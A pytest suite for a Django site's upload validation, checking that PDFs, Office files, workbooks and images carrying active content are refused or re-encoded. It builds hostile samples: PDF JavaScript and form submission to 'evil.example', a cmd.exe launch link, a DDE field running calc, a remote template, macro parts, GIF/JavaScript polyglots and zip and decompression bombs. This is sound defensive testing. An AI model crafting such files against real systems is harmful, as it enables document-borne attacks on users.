"""core.uploads: an upload is parsed as what its first bytes claim, and refused when it is more than that.

Every hostile sample is built here (pypdf, zipfile, Pillow) and sent through the forms that take uploads:
the consultation answer's attachment, the agreement's board decision and the coordinators' meeting
documents in the admin.
"""

import io
import struct
import zipfile
import zlib

import pytest
from django.urls import reverse
from django.utils import translation
from PIL import Image
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from agreements.models import Signatory
from consultations.forms import AnswerForm
from meetings.models import MeetingDocument
from tests import samples
from tests.factories import (
    AgreementFactory,
    MandatedRepresentativeFactory,
    MeetingFactory,
    OrganisationFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

# --- Hostile and harmless samples ------------------------------------------------------------------


def _name(value: str) -> NameObject:
    return NameObject(value)


def _with_javascript(writer):
    writer.add_open_action(JavaScript("app.alert('hej');"))


def _with_open_action_script(writer):
    writer._root_object[_name("/OpenAction")] = DictionaryObject(
        {_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("this.submitForm('https://evil.example')")}
    )


def _with_submit_on_open(writer):
    writer._root_object[_name("/OpenAction")] = DictionaryObject(
        {_name("/S"): _name("/SubmitForm"), _name("/F"): TextStringObject("https://evil.example/")}
    )


def _with_launch_link(writer):
    writer.add_annotation(
        0,
        DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Link"),
                _name("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(50), FloatObject(50)]),
                _name("/A"): DictionaryObject(
                    {_name("/S"): _name("/Launch"), _name("/F"): TextStringObject("cmd.exe")}
                ),
            }
        ),
    )


def _with_attachment(writer):
    writer.add_attachment("faktura.exe", b"MZ\x90\x00")


def _with_web_link(writer):
    writer.add_annotation(0, Link(rect=(10, 10, 100, 30), url="https://www.regionvasternorrland.se/"))


def _with_page_destination_on_open(writer):
    writer._root_object[_name("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])


def _encrypted(password):
    def build(writer):
        writer.encrypt(user_password=password, owner_password="agare", algorithm="RC4-128")

    return build


def _obfuscated_javascript() -> bytes:
    """``/J#61vaScript`` is ``/JavaScript`` to every PDF reader: the escape must not hide it."""
    return samples.pdf(_with_javascript).replace(b"/JavaScript", b"/J#61vaScript")


def _html_in_comment() -> bytes:
    """A PDF/HTML polyglot: a browser that sniffs sees a web page, a PDF reader a PDF."""
    header, rest = samples.PDF.split(b"\n", 1)
    return header + b"\n%<html><body><script>fetch('/admin/')</script></body></html>\n" + rest


HOSTILE_PDFS = {
    "javascript": (samples.pdf(_with_javascript), "pdf_active"),
    "open-action-script": (samples.pdf(_with_open_action_script), "pdf_active"),
    "submit-on-open": (samples.pdf(_with_submit_on_open), "pdf_active"),
    "launch-link": (samples.pdf(_with_launch_link), "pdf_active"),
    "embedded-file": (samples.pdf(_with_attachment), "pdf_active"),
    "obfuscated-name": (_obfuscated_javascript(), "pdf_active"),
    "html-after-eof": (samples.PDF + samples.HTML, "pdf_trailing"),
    "html-in-comment": (_html_in_comment(), "pdf_polyglot"),
    "password": (samples.pdf(_encrypted("hemligt")), "pdf_encrypted"),
    "unreadable": (b"%PDF-1.7\n" + b"\x00" * 64 + b"\n%%EOF\n", "pdf_unreadable"),
}
HARMLESS_PDFS = {
    "plain": samples.PDF,
    "web-link": samples.pdf(_with_web_link),
    "opens-at-a-page": samples.pdf(_with_page_destination_on_open),
    "permissions-only": samples.pdf(_encrypted("")),
}


def _package(parts: dict, *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), content, compression)
    return buffer.getvalue()


DOCX_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>{extra}</Types>'
)
WORD_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _docx(body="<w:p/>", extra_types="", **parts) -> bytes:
    return _package(
        {
            "[Content_Types].xml": DOCX_TYPES.format(extra=extra_types),
            "word/document.xml": f"<w:document {WORD_NS}><w:body>{body}</w:body></w:document>",
            **{name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()},
        }
    )


def _odt(**parts) -> bytes:
    return _package(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": "<office:document-content/>",
            **parts,
        }
    )


EXTERNAL_TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="https://evil.example/mall.dotm" TargetMode="External"/></Relationships>'
)
WEB_HYPERLINK = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'hyperlink" Target="https://www.regionhalland.se/" TargetMode="External"/></Relationships>'
)
# A DDE field split over two runs, as Word writes it (and as attackers do, to hide the word).
DDE_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText>'
    '</w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
PAGE_FIELD = '<w:p><w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r></w:p>'

HOSTILE_OFFICE = {
    "docx-with-macro-part": (_docx(word__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0" + b"\x00" * 60), "office_macros"),
    "docx-with-activex": (_docx(word__activeX__activeX1_dot_bin=b"\x00" * 16), "office_macros"),
    "docx-with-ole-object": (_docx(word__embeddings__oleObject1_dot_bin=b"\xd0\xcf\x11\xe0"), "office_macros"),
    "docx-with-embedded-workbook-with-macros": (
        _docx(word__embeddings__Microsoft_Excel_Macro_Enabled_Worksheet_dot_xlsm=b"PK\x03\x04"),
        "office_macros",
    ),
    "docx-declaring-macros": (
        _docx(extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        "office_macros",
    ),
    "docx-with-remote-template": (_docx(word___rels__settings_dot_xml_dot_rels=EXTERNAL_TEMPLATE), "office_external"),
    "docx-with-dde-field": (_docx(body=DDE_FIELD), "office_macros"),
    "docx-zip-bomb": (_docx(word__media__image1_dot_png=b"\x00" * (3 * 1024 * 1024)), "office_too_large"),
    "odt-with-basic-macros": (_odt(**{"Basic/Standard/Module1.xml": "<script:module/>"}), "office_macros"),
    "odt-with-event-script": (
        _odt(
            **{
                "content.xml": "<office:document-content><office:event-listeners><script:event-listener "
                'script:language="ooo:script" script:event-name="dom:load" '
                'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
                "</office:event-listeners></office:document-content>"
            }
        ),
        "office_macros",
    ),
}
HARMLESS_OFFICE = {
    "docx": ("protokoll.docx", samples.docx()),
    "docx-with-printer-settings-and-link": (
        "protokoll.docx",
        _docx(
            body=PAGE_FIELD,
            word__printerSettings__printerSettings1_dot_bin=b"\x00" * 64,
            word___rels__document_dot_xml_dot_rels=WEB_HYPERLINK,
        ),
    ),
    "odt": ("protokoll.odt", samples.odt()),
}


def _gif_polyglot_with_trailing_script() -> bytes:
    """``GIF89a/*`` … ``*/=alert(…)``: an image to a browser, a script to ``<script src=…>``."""
    gif = samples.image("GIF")
    return b"GIF89a/*" + gif[8:] + b"*/=alert(document.domain);//"


def _png_with_forged_size(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` × ``height`` pixels (a decompression bomb's first step)."""
    png = samples.image("PNG", size=(1, 1))
    header = struct.pack(">II", width, height) + png[24:29]
    chunk = b"IHDR" + header
    return png[:8] + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk)) + png[33:]


def _jpeg_with_exif_and_html() -> bytes:
    image = Image.new("RGB", (8, 8), (20, 120, 40))
    exif = image.getexif()
    exif[0x010E] = "Hemlig plats 62.39N 17.30E"
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif)
    return buffer.getvalue() + samples.HTML


# --- PDFs through the consultation answer and the board decision -----------------------------------


def _answer_form(name, content):
    return AnswerForm(data={}, files={"attachment": samples.upload(name, content)}, sections=[])


@pytest.mark.parametrize("sample", list(HOSTILE_PDFS), ids=list(HOSTILE_PDFS))
def test_a_hostile_pdf_is_refused_by_the_answer_form(sample):
    content, code = HOSTILE_PDFS[sample]
    form = _answer_form("svar.pdf", content)
    assert not form.is_valid()
    assert [error.code for error in form.errors.as_data()["attachment"]] == [code]


@pytest.mark.parametrize("sample", list(HARMLESS_PDFS), ids=list(HARMLESS_PDFS))
def test_an_ordinary_pdf_is_accepted_by_the_answer_form(sample):
    form = _answer_form("svar.pdf", HARMLESS_PDFS[sample])
    assert form.is_valid(), form.errors


@pytest.fixture
def signing(client):
    user = UserFactory(email="rita@example.se")
    organisation = OrganisationFactory(name="Föreningen Gemenskap")
    MandatedRepresentativeFactory(user=user, organisation=organisation)
    client.force_login(user)
    agreement = AgreementFactory(slug="samverkan")
    data = {
        "organisation": organisation.pk,
        "signed_by_name": "Anna Ordförande",
        "signed_by_title": "Ordförande",
        "confirms_authority": "on",
        "public": "on",
    }
    return reverse("agreements:sign", args=[agreement.slug]), data


@pytest.mark.parametrize("sample", ["javascript", "html-in-comment", "html-after-eof"])
def test_the_board_decision_refuses_a_hostile_pdf_in_swedish(client, signing, media_root, sample):
    url, data = signing
    response = client.post(url, {**data, "board_decision": samples.upload("beslut.pdf", HOSTILE_PDFS[sample][0])})
    page = response.content.decode()
    assert response.status_code == 200
    assert "Spara eller exportera den som PDF igen" in page or "Spara den som en vanlig PDF" in page
    assert not Signatory.objects.exists()
    assert not list(media_root.rglob("*.pdf"))


def test_the_board_decision_accepts_a_pdf_with_a_web_link(client, signing, media_root):
    url, data = signing
    content = HARMLESS_PDFS["web-link"]
    response = client.post(url, {**data, "board_decision": samples.upload("beslut.pdf", content)})
    assert response.status_code == 302
    stored = Signatory.objects.get().board_decision
    assert (media_root / "private" / stored.name).read_bytes() == content


def test_pdf_messages_are_in_english_too():
    form = _answer_form("svar.pdf", HOSTILE_PDFS["javascript"][0])
    with translation.override("en"):
        assert form.errors["attachment"][0].startswith("The PDF contains scripts")


# --- Office documents and images through the meeting documents' admin ----------------------------

ADD = "/admin/meetings/meetingdocument/add/"


def _post_document(client, name, content):
    meeting = MeetingFactory()
    data = {"meeting": meeting.pk, "kind": "minutes", "title": "Minnesanteckningar", "order": 1}
    return client.post(ADD, {**data, "file": samples.upload(name, content, "application/octet-stream")})


def _errors(response):
    return [error.code for error in response.context["adminform"].form.errors.as_data().get("file", [])]


@pytest.mark.parametrize("sample", list(HOSTILE_OFFICE))
def test_a_hostile_office_document_is_refused_by_the_admin(coordinator_client, media_root, sample):
    content, code = HOSTILE_OFFICE[sample]
    suffix = ".odt" if sample.startswith("odt") else ".docx"
    response = _post_document(coordinator_client, "protokoll" + suffix, content)
    assert response.status_code == 200
    assert _errors(response) == [code]
    assert not MeetingDocument.objects.exists()


def test_a_zip_bomb_is_refused_from_its_directory_before_unpacking(coordinator_client, media_root, settings):
    """Stored (not packed) parts have no suspicious ratio; the unpacked total is what counts."""
    settings.UPLOAD_MAX_UNPACKED_BYTES = 1024 * 1024
    big = _package(
        {
            "[Content_Types].xml": DOCX_TYPES.format(extra=""),
            "word/document.xml": "<w:document/>",
            "word/media/a.png": b"\x01" * (600 * 1024),
            "word/media/b.png": b"\x02" * (600 * 1024),
        },
        compression=zipfile.ZIP_STORED,
    )
    response = _post_document(coordinator_client, "protokoll.docx", big)
    assert _errors(response) == ["office_too_large"]
    with translation.override("sv"):
        assert "1,0\xa0MB" in str(response.context["adminform"].form.errors["file"][0])


@pytest.mark.parametrize("sample", list(HARMLESS_OFFICE))
def test_an_ordinary_office_document_is_accepted_by_the_admin(coordinator_client, media_root, sample):
    name, content = HARMLESS_OFFICE[sample]
    response = _post_document(coordinator_client, name, content)
    assert response.status_code == 302
    assert MeetingDocument.objects.get().file.read() == content


def test_office_refusals_say_what_to_do_in_swedish(coordinator_client, media_root):
    response = _post_document(coordinator_client, "protokoll.docx", HOSTILE_OFFICE["docx-with-macro-part"][0])
    assert "Dokumentet innehåller makron" in response.content.decode()


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("bild.gif", _gif_polyglot_with_trailing_script(), "image_trailing"),
        ("bild.png", samples.image("PNG") + samples.HTML, "image_trailing"),
        ("bild.png", _png_with_forged_size(100_000, 100_000), "image_too_large"),
        ("bild.png", samples.image("PNG")[:-20], "image_unreadable"),
        ("bild.webp", samples.image("WEBP") + b"<script>alert(1)</script>", "image_trailing"),
    ],
    ids=["gif-js-polyglot", "png-with-html", "decompression-bomb", "truncated", "webp-with-script"],
)
def test_a_hostile_image_is_refused_by_the_admin(coordinator_client, media_root, name, content, code):
    response = _post_document(coordinator_client, name, content)
    assert _errors(response) == [code]
    assert not MeetingDocument.objects.exists()


def test_the_pixel_limit_is_a_setting(coordinator_client, media_root, settings):
    settings.UPLOAD_MAX_IMAGE_PIXELS = 100
    assert _errors(_post_document(coordinator_client, "bild.png", samples.image("PNG", size=(20, 20)))) == [
        "image_too_large"
    ]
    assert _post_document(coordinator_client, "bild.png", samples.image("PNG", size=(10, 10))).status_code == 302


def test_script_hidden_in_a_gif_comment_is_not_stored(coordinator_client, media_root):
    """No trailing bytes, but a comment block ends the header's ``/*`` and holds a script: re-encoding drops it."""
    content = samples.image("GIF", comment=b"*/=alert(document.domain);/*")
    assert b"alert" in content
    assert _post_document(coordinator_client, "bild.gif", content).status_code == 302
    stored = MeetingDocument.objects.get().file.read()
    assert b"alert" not in stored
    assert Image.open(io.BytesIO(stored)).format == "GIF"


def test_a_photo_is_stored_without_its_metadata_and_trailer(coordinator_client, media_root):
    content = _jpeg_with_exif_and_html()
    assert _post_document(coordinator_client, "foto.jpg", content).status_code == 302
    document = MeetingDocument.objects.get()
    stored = document.file.read()
    assert b"Hemlig plats" not in stored
    assert b"<script>" not in stored
    image = Image.open(io.BytesIO(stored))
    assert (image.format, image.size) == ("JPEG", (8, 8))
    assert document.file.size == len(stored)


@pytest.mark.parametrize(("name", "fmt"), [("a.png", "PNG"), ("a.jpg", "JPEG"), ("a.gif", "GIF"), ("a.webp", "WEBP")])
def test_an_ordinary_image_is_accepted_and_stays_the_same_picture(coordinator_client, media_root, name, fmt):
    response = _post_document(coordinator_client, name, samples.image(fmt, size=(3, 2)))
    assert response.status_code == 302
    image = Image.open(io.BytesIO(MeetingDocument.objects.get().file.read()))
    assert (image.format, image.size) == (fmt, (3, 2))
    assert image.convert("RGB").getpixel((1, 1))[0] > 150


def test_an_animated_gif_keeps_its_frames(coordinator_client, media_root):
    frames = [Image.new("RGB", (4, 4), colour) for colour in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=200, loop=0)
    assert _post_document(coordinator_client, "anim.gif", buffer.getvalue()).status_code == 302
    image = Image.open(io.BytesIO(MeetingDocument.objects.get().file.read()))
    assert image.n_frames == 3


# --- The signatory import's workbook ------------------------------------------------------------


def _workbook(**extra_parts) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active.append(["Organisation", "Organisationsnummer", "Undertecknad"])
    workbook.active.append(["Föreningen Gemenskap", "802000-0000", "2019-04-26"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    if not extra_parts:
        return buffer.getvalue()
    with zipfile.ZipFile(buffer, "a") as archive:
        for name, content in extra_parts.items():
            archive.writestr(name, content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _import_form(content):
    from agreements.forms import SignatoryImportForm

    agreement = AgreementFactory()
    upload = samples.upload("signatarer.xlsx", content, "application/octet-stream")
    return SignatoryImportForm(data={"agreement": agreement.pk}, files={"file": upload})


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        ({"xl/media/fill.bin": b"\x00" * (3 * 1024 * 1024)}, "office_too_large"),
        ({"xl/macrosheets/sheet2.xml": "<xm:macrosheet/>"}, "office_macros"),
        ({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "office_macros"),
    ],
    ids=["zip-bomb", "excel-4-macros", "vba"],
)
def test_the_signatory_import_refuses_a_hostile_workbook(parts, code):
    form = _import_form(_workbook(**parts))
    assert not form.is_valid()
    assert [error.code for error in form.errors.as_data()["file"]] == [code]


def test_the_signatory_import_accepts_a_workbook():
    assert _import_form(_workbook()).is_valid()


def test_a_large_upload_in_a_temporary_file_is_stored_re_encoded(coordinator_client, media_root, settings):
    """Big uploads arrive in a temporary file that the storage moves into place: the clean copy must be in it."""
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0
    assert _post_document(coordinator_client, "foto.jpg", _jpeg_with_exif_and_html()).status_code == 302
    stored = MeetingDocument.objects.get().file.read()
    assert b"<script>" not in stored
    assert b"Hemlig plats" not in stored
    assert Image.open(io.BytesIO(stored)).size == (8, 8)


@pytest.mark.parametrize(
    ("name", "mode", "fmt", "options"),
    [
        ("palett.png", "P", "PNG", {"transparency": 0}),
        ("grå.png", "LA", "PNG", {}),
        ("tryck.jpg", "CMYK", "JPEG", {}),
        ("grå.gif", "L", "GIF", {}),
    ],
)
def test_images_in_other_colour_modes_are_kept(coordinator_client, media_root, name, mode, fmt, options):
    buffer = io.BytesIO()
    Image.new(mode, (5, 4)).save(buffer, fmt, **options)
    assert _post_document(coordinator_client, name, buffer.getvalue()).status_code == 302
    image = Image.open(io.BytesIO(MeetingDocument.objects.get().file.read()))
    assert (image.format, image.size) == (fmt, (5, 4))


@pytest.mark.parametrize(
    "sample", ["javascript", "open-action-script", "submit-on-open", "launch-link", "embedded-file"]
)
def test_the_parsed_objects_are_checked_as_well_as_the_bytes(monkeypatch, sample):
    """Objects packed in compressed object streams are invisible to a look at the bytes: the objects pypdf
    reads are checked on their own (here with the byte check switched off)."""
    monkeypatch.setattr("core.uploads._check_pdf_bytes", lambda data: None)
    form = _answer_form("svar.pdf", HOSTILE_PDFS[sample][0])
    assert not form.is_valid()
    assert [error.code for error in form.errors.as_data()["attachment"]] == ["pdf_active"]
